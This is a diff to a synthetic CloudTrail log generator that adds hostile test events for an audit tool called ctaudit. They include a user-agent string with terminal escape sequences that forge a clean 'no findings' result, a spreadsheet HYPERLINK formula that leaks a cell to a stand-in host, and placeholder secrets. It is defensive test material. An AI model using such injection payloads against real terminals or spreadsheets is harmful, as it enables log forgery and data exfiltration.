@@ -276,6 +276,24 @@ for day in range(16, 23):
         events.append(ev)
 
 
+# --- hostile strings: every string a caller sends is theirs to choose. A
+# contractor's laptop key with a user agent that tries to clear the terminal,
+# retitle its window and forge a "no findings" line, and one that is a
+# spreadsheet formula; an ECS task definition with a password in its
+# environment, and an error message quoting a session token. ctaudit shows
+# the first two as text, never runs them, and stores neither secret.
+CONTRACTOR_KEY = key("AKIA", "contractor")
+user_key_call(at(21, 23, 50), "contractor", CONTRACTOR_KEY, "GetCallerIdentity", "sts.amazonaws.com",
+              "aws-cli/2.15.30 \x1b[2J\x1b]0;all clear\x07\rctaudit: no findings", "203.0.113.80")
+user_key_call(at(21, 23, 51), "contractor", CONTRACTOR_KEY, "ListBuckets", "s3.amazonaws.com",
+              '=HYPERLINK("http://203.0.113.80/?leak="&A1,"details")', "203.0.113.80",
+              error=("AccessDenied", "The security token IQoJb3JpZ2luX2VjEXAMPLELEAKEDTOKEN0123456789 is not allowed"))
+session_call(at(17, 10, 0), "RegisterTaskDefinition", "ecs.amazonaws.com", {
+    "family": "api",
+    "containerDefinitions": [{"name": "api", "image": "acme/api:2.4.0", "environment": [
+        {"name": "REGION", "value": "eu-central-1"},
+        {"name": "DB_PASSWORD", "value": "sample-db-password-never-stored"}]}]})
+
 def write(out):
     by_file = defaultdict(list)
     for ev in sorted(events, key=lambda e: (e["eventTime"], e["eventID"])):
